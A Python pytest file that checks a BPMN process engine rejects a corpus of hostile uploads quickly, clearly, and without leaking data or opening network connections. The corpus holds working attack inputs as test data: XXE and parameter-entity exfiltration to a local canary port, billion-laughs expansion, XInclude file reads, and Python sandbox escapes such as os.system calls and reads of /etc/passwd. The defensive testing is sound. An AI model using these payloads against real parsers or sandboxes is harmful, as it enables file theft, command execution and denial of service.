"""S1 upload corpus (security.md §5, UP-01/UP-02): hostile and broken bundles are rejected fast and clearly."""

from __future__ import annotations

import resource
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from processes.errors import DefinitionInvalid
from processes.errors import UploadRejected
from processes.runtime import definitions
from processes.runtime.core import Runtime
from processes.runtime.models import ProcessDefinition
from tests.upload_support import BPMN_NS
from tests.upload_support import SECRET
from tests.upload_support import Canary
from tests.upload_support import Case
from tests.upload_support import Ctx
from tests.upload_support import cardinality
from tests.upload_support import correlation_doc
from tests.upload_support import deep
from tests.upload_support import definitions_doc
from tests.upload_support import entities
from tests.upload_support import linear
from tests.upload_support import many_attributes
from tests.upload_support import message_payload_doc
from tests.upload_support import one_file
from tests.upload_support import simple
from tests.upload_support import task
from tests.upload_support import upload
from tests.upload_support import with_condition
from tests.upload_support import with_extension
from tests.upload_support import with_form
from tests.upload_support import with_head
from tests.upload_support import with_loop
from tests.upload_support import with_script
from tests.upload_support import with_service
from tests.upload_support import with_timer

TIME_LIMIT = 2.0  # seconds per rejection: a guard against hangs, not a benchmark
SUBCLASS_WALK = ("x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
                 ".__init__.__globals__['system']('id')")
UTF16 = simple().replace('encoding="UTF-8"', 'encoding="UTF-16"')
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


# Every hostile case is generated here. Each must raise DefinitionInvalid (or its subclass UploadRejected)
# whose message names the problem (and the element where there is one) within 2 s, leak nothing from the
# local file the XXE payloads point at, and open no connection to the canary port.
CORPUS: list[Case] = [
    # encoding, size and shape
    Case("truncated_xml", one_file(simple()[: len(simple()) // 2]), ("malformed XML", "Premature end")),
    Case("empty_file", one_file(""), ("malformed XML",)),
    Case("invalid_utf8", one_file(b'<?xml version="1.0"?><bpmn:definitions \xff\xfe\xc3\x28/>'), ("不是 UTF-8",)),
    # UTF-16 without a byte order mark is read only when its declaration says UTF-16 (tests/test_diagram_encodings)
    Case("utf16_without_bom", one_file(simple().encode("utf-16-le")), ("与声明的编码 UTF-8 不符",)),
    Case("declared_rot13", one_file(UTF16.replace('"UTF-16"', '"rot13"').encode()), ("编码 rot13 无法识别",)),
    Case("unpaired_surrogate", one_file(simple().replace("签收", "\ud800")), ("unpaired surrogate",)),
    Case("nul_character", one_file(simple().replace("签收", "签\x00收")), ("malformed XML",)),
    Case("nesting_10000_deep", one_file(deep(10_000)), ("malformed XML", "Excessive depth")),
    Case("attributes_100000", one_file(many_attributes(100_000)), ("100002 attributes",)),
    Case("namespaced_attributes_100000", one_file(many_attributes(100_000, "z:")), ("100002 attributes",)),
    Case("elements_1000000", one_file(definitions_doc(linear(task(
        "userTask", 1, "<bpmn:extensionElements>" + "<x/>" * 1_000_000 + "</bpmn:extensionElements>")))),
        ("more than 50000 XML elements",)),
    Case("larger_than_5mb", one_file(definitions_doc(linear()) + " " * (5 * 1024 * 1024 + 1)),
         ("larger than 5 MB",)),
    Case("wrong_namespace", one_file(simple().replace(BPMN_NS, BPMN_NS + "#")), ("not a BPMN 2.0 document",)),
    Case("not_bpmn_at_all", one_file("<html><body>hello</body></html>"), ("not a BPMN 2.0 document",)),
    Case("xsd_unknown_element", one_file(definitions_doc(linear(task("bogusTask", 1)))), ("bogusTask",)),
    Case("xsd_unknown_attribute", one_file(definitions_doc(linear(task("userTask", 1, attrs='colour="red"')))),
         ("colour",)),
    Case("xsd_duplicate_ids", one_file(definitions_doc(linear(task("userTask", 1), task("userTask", 1)))),
         ("'t1' is not a valid value",)),
    Case("xsd_loop_maximum_not_integer", with_loop('<bpmn:standardLoopCharacteristics loopMaximum="lots"/>'),
         ("loopMaximum", "lots")),
    # DOCTYPE, entities and external resources
    Case("xxe_local_file", with_head(entities('<!ENTITY x SYSTEM "file://{secret}">'),
                                     "<bpmn:documentation>&x;</bpmn:documentation>"), ("DOCTYPE",)),
    Case("xxe_canary_port", with_head(entities('<!ENTITY x SYSTEM "http://127.0.0.1:{port}/xxe">'),
                                      "<bpmn:documentation>&x;</bpmn:documentation>"), ("DOCTYPE",)),
    Case("parameter_entities", with_head(entities(
        '<!ENTITY % file SYSTEM "file://{secret}">\n'
        '<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'http://127.0.0.1:{port}/?%file;\'>">\n%wrap;\n%send;')),
        ("DOCTYPE",)),
    Case("external_dtd_system", with_head(
        lambda ctx: f'<!DOCTYPE bpmn:definitions SYSTEM "http://127.0.0.1:{ctx.port}/x.dtd">\n'), ("DOCTYPE",)),
    Case("external_dtd_public", with_head(
        lambda ctx: f'<!DOCTYPE bpmn:definitions PUBLIC "-//S1//X" "http://127.0.0.1:{ctx.port}/p.dtd">\n'),
        ("DOCTYPE",)),
    Case("lowercase_doctype", with_head(lambda ctx: f'<!doctype bpmn:definitions SYSTEM "file://{ctx.secret}">\n'),
         ("DOCTYPE",)),
    Case("billion_laughs", with_head(entities('<!ENTITY l0 "ha">\n' + "\n".join(
        f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))),
        "<bpmn:documentation>&l9;</bpmn:documentation>"), ("DOCTYPE",)),
    Case("quadratic_blowup", with_head(entities('<!ENTITY a "' + "A" * 100_000 + '">'),
                                       "<bpmn:documentation>" + "&a;" * 10_000 + "</bpmn:documentation>"),
         ("DOCTYPE",)),
    Case("xinclude_local_file", lambda ctx: {"upload.bpmn": definitions_doc(
        linear() + f'<xi:include href="file://{ctx.secret}" parse="text"/>', extra=XI)}, ("XInclude",)),
    Case("xinclude_canary_port", lambda ctx: {"upload.bpmn": definitions_doc(
        linear() + f'<xi:include href="http://127.0.0.1:{ctx.port}/inc.xml"/>', extra=XI)}, ("XInclude",)),
    # scripts and expressions
    Case("script_import_call", with_script("__import__('os').system('id')"), ("__import__",), "t1"),
    Case("script_import_statement", with_script("import os\nos.system('id')"), ("import is not allowed",), "t1"),
    Case("script_subclass_walk", with_script(SUBCLASS_WALK), ("__subclasses__",), "t1"),
    Case("script_open", with_script("data = open('/etc/passwd').read()"), ("open() is not available",), "t1"),
    Case("script_format_map", with_script("s = '{a.__class__.__base__}'.format_map({'a': 1})"),
         (".format_map is not available",), "t1"),
    Case("script_format_leak", with_script("s = '{0.__class__}'.format(1)"), (".format is not available",), "t1"),
    Case("script_getattr", with_script("c = getattr(1, '__class__')"), ("getattr() is not available",), "t1"),
    Case("script_fstring_dunder", with_script("s = f'{x.__class__}'"), ("__class__",), "t1"),
    Case("script_fstring_huge_width", with_script("s = f'{x:>1000000000}'"), ("format widths",), "t1"),
    Case("script_while_true", with_script("while True:\n    pass"), ("while loops are not allowed",), "t1"),
    Case("script_lambda", with_script("f = lambda: 1"), ("defining functions",), "t1"),
    Case("script_syntax_error", with_script("x = = 1"), ("syntax error",), "t1"),
    Case("script_too_long", with_script("x = 1\n" * 1000), ("longer than 4000",), "t1"),
    Case("condition_power_tower", with_condition("10**10**10 > 1"), ("exponent",), "gw"),
    Case("condition_string_repeat", with_condition("len('x'*10**9) > 1"), ("repetition",), "gw"),
    Case("condition_import", with_condition("__import__('os').system('id') == 0"), ("__import__",), "gw"),
    Case("timer_duration_call", with_timer("timeDuration", "__import__('os').system('id')"), ("__import__",),
         "t1"),
    Case("timer_date_call", with_timer("timeDate", "open('/etc/passwd').read()"), ("open() is not available",),
         "t1"),
    Case("timer_cycle_power", with_timer("timeCycle", "'R' + str(10**10**10) + '/PT1S'"), ("exponent",), "t1"),
    Case("mi_cardinality_power", with_loop(cardinality("10**9")), ("cardinality 1000000000", "limit of 500"), "t1"),
    Case("mi_cardinality_literal", with_loop(cardinality("1000000000")), ("integer constant too large",), "t1"),
    Case("mi_cardinality_just_over", with_loop(cardinality("501")), ("cardinality 501",), "t1"),
    Case("mi_cardinality_fails", with_loop(cardinality("1/0")), ("ZeroDivisionError",), "t1"),
    Case("mi_completion_escape", with_loop(cardinality("3", "__import__('os')")), ("__import__",), "t1"),
    Case("loop_condition_escape", with_loop(
        "<bpmn:standardLoopCharacteristics><bpmn:loopCondition>open('/etc/passwd')</bpmn:loopCondition>"
        "</bpmn:standardLoopCharacteristics>"), ("open() is not available",), "t1"),
    Case("prescript_escape", with_extension("preScript", SUBCLASS_WALK), ("__subclasses__",), "t1"),
    Case("postscript_escape", with_extension("postScript", "import subprocess"), ("import is not allowed",), "t1"),
    Case("message_payload_escape", one_file(message_payload_doc("__import__('os').getcwd()")), ("__import__",),
         "t1"),
    Case("correlation_expression_escape", one_file(correlation_doc("__import__('os').getcwd()")), ("__import__",),
         "t1"),
    Case("unknown_service_operator", with_service("os.system"), ("unknown service operator 'os.system'",), "t1"),
    Case("service_parameter_escape", with_service("test.echo", "__import__('os').getcwd()"), ("__import__",), "t1"),
    # structure
    Case("linear_chain_5000", one_file(definitions_doc(linear(*[task("userTask", i) for i in range(1, 5001)]))),
         ("RecursionError",)),
    Case("missing_called_process", one_file(definitions_doc(linear(task(
        "callActivity", 1, attrs='calledElement="absent"')))), ("'absent' was not found",)),
    Case("missing_form_schema", with_form("missing.json", {}),
         ("form schema 'missing.json' is not in the bundle",), "t1"),
    Case("form_schema_not_json", with_form("bad.json", {"forms/bad.json": "{not json"}),
         ("forms/bad.json", "not valid JSON")),
    Case("form_schema_not_object", with_form("list.json", {"forms/list.json": "[1, 2]"}),
         ("forms/list.json", "JSON object")),
    Case("non_executable_process", one_file(definitions_doc(linear(executable="false"))),
         ("no executable process",)),
    Case("no_process", one_file(definitions_doc('<bpmn:message id="m" name="m"/>')), ("no executable process",)),
    Case("no_bpmn_file", lambda ctx: {"forms/a.json": "{}"}, ("no .bpmn file",)),
    Case("duplicate_process_ids", lambda ctx: {"a.bpmn": definitions_doc(linear(pid="dup")),
                                               "b.bpmn": definitions_doc(linear(pid="dup"))},
         ("Duplicate process ID: dup",)),
    Case("flow_to_missing_node", one_file(definitions_doc(linear().replace('targetRef="end"', 'targetRef="ghost"'))),
         ("ghost",)),
    Case("dmn_not_dmn", lambda ctx: {"p.bpmn": definitions_doc(linear()), "d.dmn": '<definitions xmlns="urn:x"/>'},
         ("not a DMN document",)),
]


def test_corpus_has_at_least_40_hostile_cases() -> None:
    assert len(CORPUS) >= 40
    assert len({case.id for case in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=lambda case: case.id)
def test_hostile_upload_is_rejected_quickly_and_clearly(case: Case, canary: Canary, secret_file: Path,
                                                        tmp_path: Path) -> None:
    files = case.build(Ctx(canary.port, secret_file))
    started = time.perf_counter()
    with pytest.raises(DefinitionInvalid) as info:
        upload(files, tmp_path)
    elapsed = time.perf_counter() - started
    message = str(info.value)
    assert elapsed < TIME_LIMIT, f"{case.id} took {elapsed:.2f} s"
    for expected in case.expect:
        assert expected in message, message
    if case.element is not None:
        assert info.value.element == case.element, message
    assert SECRET not in message
    assert canary.connections == 0


def test_xml_level_attacks_are_upload_rejections(canary: Canary, secret_file: Path, tmp_path: Path) -> None:
    ctx = Ctx(canary.port, secret_file)
    for case in CORPUS:
        if "DOCTYPE" in case.expect or "XInclude" in case.expect or "malformed XML" in case.expect:
            with pytest.raises(UploadRejected):
                upload(case.build(ctx), tmp_path / case.id)


def test_the_whole_corpus_keeps_memory_flat(canary: Canary, secret_file: Path, tmp_path: Path) -> None:
    """S1: worker RSS growth < 50 MB over the corpus (peak RSS, so an upper bound on what an expansion costs)."""
    ctx = Ctx(canary.port, secret_file)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for case in CORPUS:
        with pytest.raises(DefinitionInvalid):
            upload(case.build(ctx), tmp_path / case.id)
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 50 * 1024, f"peak RSS grew by {grown_kb // 1024} MB"


def test_rejected_deploy_stores_nothing(runtime: Runtime, canary: Canary, secret_file: Path) -> None:
    ctx = Ctx(canary.port, secret_file)
    chosen = [c for c in CORPUS if c.id in {"xxe_local_file", "script_subclass_walk", "mi_cardinality_power",
                                           "xsd_loop_maximum_not_integer", "unknown_service_operator"}]
    assert len(chosen) == 5
    for case in chosen:
        files = {k: str(v) for k, v in case.build(ctx).items()}
        with pytest.raises(DefinitionInvalid), runtime.write() as session, session.begin():
            definitions.deploy(session, case.id, files, actor="analyst", now=runtime.clock(),
                               operators=runtime.handlers, publish=True)
    with runtime.read() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(ProcessDefinition)) == 0
    assert canary.connections == 0


def test_deploy_refuses_text_with_an_unpaired_surrogate(runtime: Runtime) -> None:
    from processes.errors import DefinitionInvalid
    from processes.runtime import definitions

    with pytest.raises(DefinitionInvalid, match="surrogate"), runtime.write() as session, session.begin():
        definitions.deploy(session, "bad", {"x.bpmn": "<a>\ud800</a>"}, actor="a", now=runtime.clock(),
                           operators=runtime.handlers)
